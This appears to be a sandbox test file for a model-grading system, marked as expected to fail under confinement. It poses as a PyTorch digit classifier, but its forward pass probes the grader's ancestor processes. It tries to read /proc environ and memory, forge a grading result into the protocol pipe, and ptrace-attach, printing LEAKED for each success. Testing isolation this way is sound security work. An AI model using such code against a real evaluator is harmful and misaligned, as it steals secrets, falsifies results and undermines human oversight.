# expect: fail values output differs
# exercise: exercise2
# needs: confinement
# Tries to read the grader's memory, environment and descriptors through /proc (its parent, the
# zygote, and the grading process above it) and to ptrace them. Prints LEAKED for each success.
import ctypes
import os

import torch
from torch import nn


def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            status = open(f"/proc/{pid}/status").read()
        except OSError:
            return
        pid = int(status.split("PPid:")[1].split()[0])


def attack(pid):
    for name in ("environ", "cmdline_mem", "mem", "maps", "fd/1", "fd/0", "cwd/probe"):
        try:
            if name == "mem":
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                start = int(maps[0].split("-")[0], 16)
                with open(f"/proc/{pid}/mem", "rb") as f:
                    f.seek(start)
                    f.read(16)
            elif name == "fd/1":
                with open(f"/proc/{pid}/fd/1", "w") as f:  # the zygote's protocol pipe
                    f.write('{"pid": 1, "status": 0, "timed_out": false}\n')
            elif name == "fd/0":
                open(f"/proc/{pid}/fd/0").close()
            elif name == "environ":
                open(f"/proc/{pid}/environ", "rb").read(64)
            else:
                continue
            print(f"LEAKED {name} of {pid}")
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        print(f"LEAKED ptrace of {pid}")
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH


class DigitClassifier(nn.Module):
    def __init__(self):
        super().__init__()
        self.flatten = nn.Flatten()
        self.fc1 = nn.Linear(784, 128)
        self.relu = nn.ReLU()
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x):
        for pid in ancestors():
            attack(pid)
        return torch.zeros(x.shape[0], 10, dtype=x.dtype)
